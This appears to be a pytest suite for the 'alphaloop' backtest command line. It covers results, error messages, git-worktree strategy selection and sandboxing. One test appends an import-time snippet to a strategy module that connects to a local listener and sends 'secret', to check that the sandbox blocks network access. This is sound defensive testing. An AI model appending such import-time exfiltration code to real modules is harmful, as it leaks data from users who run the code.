"""``alphaloop backtest`` and ``python -m strategy`` through typer's CliRunner and as real
processes, on real repositories: the strategy that runs is the repository's, sandboxed."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from matplotlib.image import imread
from typer.testing import CliRunner

from alphaloop.backtest import load_outputs
from alphaloop.cli import app
from alphaloop.harness import BacktestResult

REPO = Path(__file__).resolve().parents[2]
DATA = "synthetic:years=1.5"

BAD_STRATEGIES = '''
import math

class _Answer:
    lookback = 5

    def __init__(self, answer, on_call=3):
        self.answer, self.on_call, self.calls = answer, on_call, 0

    def decide(self, view, portfolio):
        self.calls += 1
        if self.calls < self.on_call:
            return {}
        if callable(self.answer):
            return self.answer(view)
        return self.answer


def raising():
    def boom(view):
        raise ZeroDivisionError("division by zero in the signal")
    return _Answer(boom)

def nan_weight():
    return _Answer({"SPY": math.nan})

def negative_weight():
    return _Answer({"TLT": -0.25})

def leveraged():
    return _Answer({"SPY": 0.9, "GLD": 0.8})

def unknown_ticker():
    return _Answer({"DOGE-USD": 0.1})

def fine(profile=None):
    return _Answer({"SPY": 0.5, "TLT": 0.3}, on_call=1)
'''


@pytest.fixture
def strategies(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    folder = tmp_path / "strategies"
    folder.mkdir()
    (folder / "cli_test_strategies.py").write_text(BAD_STRATEGIES)
    monkeypatch.syspath_prepend(str(folder))
    return "cli_test_strategies"


def _invoke(*args: str):
    """``alphaloop backtest ARGS``; a short held-out window leaves most of DATA to run on
    (the held-out window is left out unless a test asks for it)."""
    holdout = [] if "--holdout-days" in args else ["--holdout-days", "20"]
    return CliRunner().invoke(app, ["backtest", *args, *holdout])


def test_a_backtest_writes_result_and_chart(tmp_path: Path) -> None:
    out = tmp_path / "out" / "bt"
    run = _invoke("--strategy", "inverse-vol", "--data", DATA, "--out", str(out),
                  "--frequency", "weekly", "--threshold", "0.01", "--capital", "250000")
    assert run.exit_code == 0, run.output
    result = BacktestResult.load(out / "result.json")
    assert result.config.frequency == "weekly" and result.config.initial_capital == 250000
    assert result.config.rebalance_threshold == 0.01
    assert result.config.strategy == "inverse-vol"
    assert "Sharpe" in run.stdout and "max drawdown" in run.stdout
    assert f"{result.metrics.sharpe:.2f}" in run.stdout
    assert imread(out / "equity.png").shape[:2] == (750, 1200)
    assert sorted(p.name for p in out.parent.iterdir()) == ["bt"]  # no staging left over


def test_json_prints_only_the_result(tmp_path: Path) -> None:
    run = _invoke("--strategy", "inverse-vol", "--data", DATA, "--out",
                  str(tmp_path / "o"), "--json", "--window", "holdout", "--holdout-days", "100",
                  "--include-holdout", "--repo", str(tmp_path))  # no repository counts it
    assert run.exit_code == 0, run.output
    result, _ = load_outputs(run.stdout)
    assert len(result.dates) == 100 and result.config.window.label == "holdout"
    assert run.stderr == ""
    assert (tmp_path / "o" / "result.json").read_text() != ""


def test_start_and_end_choose_the_window(tmp_path: Path) -> None:
    run = _invoke("--strategy", "inverse-vol", "--data", DATA, "--out", str(tmp_path / "o"),
                  "--json", "--start", "2005-03-01", "--end", "2005-09-30")
    assert run.exit_code == 0, run.output
    result = BacktestResult.from_json(run.stdout)
    assert str(result.dates[0]) == "2005-03-01" and str(result.dates[-1]) == "2005-09-30"


def _assert_bad_input(run, out: Path, *fragments: str) -> None:
    assert run.exit_code == 2, run.output
    assert run.stdout == ""
    message = " ".join(run.stderr.split())
    assert message.startswith("alphaloop backtest:")
    for fragment in fragments:
        assert fragment in message, message
    assert "Traceback" not in run.output
    assert not out.exists()
    assert not any(p.name.startswith(".") for p in out.parent.iterdir())


@pytest.mark.parametrize(("factory", "fragments"), [
    ("raising", ("ZeroDivisionError", "division by zero in the signal", "2005-02-28")),
    ("nan_weight", ("weight of SPY is nan", "2005-02-28")),
    ("negative_weight", ("weight of TLT is negative", "2005-02-28")),
    ("leveraged", ("above the limit 1", "largest: SPY", "2005-02-28")),
    ("unknown_ticker", ("unknown ticker 'DOGE-USD'", "2005-02-28")),
])
def test_bad_strategies_exit_2_naming_date_and_asset(tmp_path: Path, strategies: str,
                                                      factory: str, fragments) -> None:
    out = tmp_path / "out"
    run = _invoke("--strategy", f"{strategies}:{factory}", "--data", DATA, "--out", str(out),
                  "--frequency", "monthly")
    _assert_bad_input(run, out, *fragments)


def test_bad_options_exit_2(tmp_path: Path) -> None:
    out = tmp_path / "out"
    _assert_bad_input(_invoke("--strategy", "inverse-vol", "--data", "quandl", "--out",
                              str(out)), out, "unknown data source 'quandl'")
    _assert_bad_input(_invoke("--strategy", "inverse-vol", "--data", DATA, "--out", str(out),
                              "--start", "1990-01-01", "--end", "1990-06-30"),
                      out, "no trading day", "1990-01-01")
    _assert_bad_input(_invoke("--strategy", "inverse-vol", "--data", DATA, "--out", str(out),
                              "--window", "holdout", "--holdout-days", "2000"),
                      out, "too short for a 2000-day holdout")
    _assert_bad_input(_invoke("--strategy", "nope", "--data", DATA, "--out", str(out)),
                      out, "unknown strategy 'nope'")
    _assert_bad_input(_invoke("--strategy", "inverse-vol", "--data", DATA, "--out", str(out),
                              "--window", "full", "--start", "2005-02-01"),
                      out, "either a named window")
    _assert_bad_input(_invoke("--strategy", "inverse-vol", "--data", DATA, "--out", str(out),
                              "--capital", "-5"), out, "initial_capital")
    typer_error = _invoke("--frequency", "hourly", "--out", str(out))
    assert typer_error.exit_code == 2 and not out.exists()


def test_a_failure_keeps_an_existing_output_directory_as_it_was(tmp_path: Path,
                                                                strategies: str) -> None:
    out = tmp_path / "out"
    assert _invoke("--strategy", f"{strategies}:fine", "--data", DATA, "--out",
                   str(out)).exit_code == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    run = _invoke("--strategy", f"{strategies}:nan_weight", "--data", DATA, "--out", str(out))
    assert run.exit_code == 2
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


def test_checkpoint_option_resumes(tmp_path: Path) -> None:
    ckpt = tmp_path / "run.ckpt"
    run = _invoke("--strategy", "inverse-vol", "--data", DATA, "--out", str(tmp_path / "o"),
                  "--json", "--checkpoint", str(ckpt), "--checkpoint-every", "2",
                  "--frequency", "weekly")
    assert run.exit_code == 0, run.output
    assert not ckpt.exists()  # a finished run removes its checkpoint


def test_the_command_runs_as_a_real_process(tmp_path: Path) -> None:
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    out = tmp_path / "proc"
    done = subprocess.run(
        [sys.executable, "-c", "from alphaloop.cli import main; main()", "backtest",
         "--strategy", "inverse-vol", "--data", DATA, "--out", str(out), "--json",
         "--holdout-days", "20"],
        cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 0, done.stderr
    payload = json.loads(done.stdout)
    assert payload["config"]["strategy"] == "inverse-vol"
    assert (out / "result.json").exists() and (out / "equity.png").exists()



def _project(root: Path) -> Path:
    """A repository holding the quick test strategy and this project's command line."""
    from support.cycle_repos import git, make_repo

    make_repo(root)
    shutil.copy(REPO / "strategy" / "__main__.py", root / "strategy" / "__main__.py")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "command line")
    return root


LATER = "2005-09-01"  # the test strategy needs some history before its first decision


def test_backtest_from_a_worktree_runs_that_worktrees_strategy(tmp_path: Path,
                                                               monkeypatch) -> None:
    from support.cycle_repos import git

    main = _project(tmp_path / "main")
    other = tmp_path / "other"
    git(main, "worktree", "add", "-q", "-b", "more-cash", str(other))
    tunables = other / "strategy" / "tunables.py"
    tunables.write_text(tunables.read_text().replace("CASH_BUFFER = 0.10", "CASH_BUFFER = 0.40"))
    git(other, "commit", "-q", "-am", "more cash")
    runs = {}
    for name, where in (("main", main), ("other", other)):
        monkeypatch.chdir(where)
        run = _invoke("--data", DATA, "--start", LATER, "--out", str(tmp_path / f"out-{name}"),
                      "--json")
        assert run.exit_code == 0, run.output
        runs[name] = load_outputs(run.stdout)
    (main_result, main_source), (other_result, other_source) = runs["main"], runs["other"]
    assert other_source is not None and main_source is not None
    assert other_source.tree == git(other, "rev-parse", "HEAD:strategy") != main_source.tree
    assert other_source.commit == git(other, "rev-parse", "HEAD") and other_source.sandboxed
    assert other_result.metrics != main_result.metrics
    assert main_result.config.frequency == "weekly"  # the cycle's defaults
    # --repo and --rev name the same code from anywhere
    run = _invoke("--repo", str(main), "--rev", "more-cash", "--data", DATA, "--start", LATER,
                  "--out", str(tmp_path / "out-rev"), "--json")
    result, source = load_outputs(run.stdout)
    assert source is not None and source.tree == other_source.tree
    assert result.metrics == other_result.metrics
    # uncommitted files run only when asked for
    tunables.write_text(tunables.read_text().replace("CASH_BUFFER = 0.40", "CASH_BUFFER = 0.2"))
    monkeypatch.chdir(other)
    dirty = load_outputs(_invoke("--data", DATA, "--start", LATER, "--out",
                                 str(tmp_path / "o4"), "--json", "--worktree-files").stdout)
    assert dirty[1] is not None and dirty[1].worktree_files and dirty[1].tree != other_source.tree
    assert dirty[0].metrics != other_result.metrics
    _, recorded = load_outputs((tmp_path / "o4" / "result.json").read_text())
    assert recorded == dirty[1]


def test_backtest_outside_a_repository_is_explained(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    out = tmp_path / "out"
    _assert_bad_input(_invoke("--data", DATA, "--out", str(out)), out,
                      "not inside a git repository")
    _assert_bad_input(_invoke("--repo", str(REPO), "--rev", "no-such-rev", "--data", DATA,
                              "--out", str(out)), out, "'no-such-rev' names no commit")


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP server on 127.0.0.1 that records what any connection sends."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(2)
                received.append(conn.recv(100) or b"(connected)")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


HOSTILE = """

import socket as _socket

with _socket.create_connection(("127.0.0.1", {port}), timeout=2) as _leak:
    _leak.sendall(b"secret")  # at import time, before any strategy object exists
"""


def test_python_m_strategy_reaches_no_network_unless_unsandboxed(
        tmp_path: Path, listener: tuple[int, list[bytes]]) -> None:
    port, received = listener
    root = _project(tmp_path / "hostile")
    # strategy/__init__.py and __main__.py are the human-owned entry files; a change may
    # put code anywhere else in the package, e.g. run when the engine module is imported.
    engine = root / "strategy" / "engine.py"
    engine.write_text(engine.read_text() + HOSTILE.format(port=port))
    env = {**os.environ, "PYTHONPATH": str(REPO)}

    def strategy_command(*extra: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "strategy", "--data", DATA, "--frequency", "monthly",
             "--out", str(tmp_path / "out"), *extra],
            cwd=root, env=env, capture_output=True, text=True, timeout=300, check=False)

    sandboxed = strategy_command()
    assert sandboxed.returncode == 2, sandboxed.stdout + sandboxed.stderr
    assert "error:" in sandboxed.stderr and "Traceback (most recent call last)" not in \
        sandboxed.stderr.split("error:")[0]
    assert received == []
    trusted = strategy_command("--unsandboxed")
    assert trusted.returncode == 0, trusted.stderr
    assert received == [b"secret"]
    assert "unsandboxed" in trusted.stdout
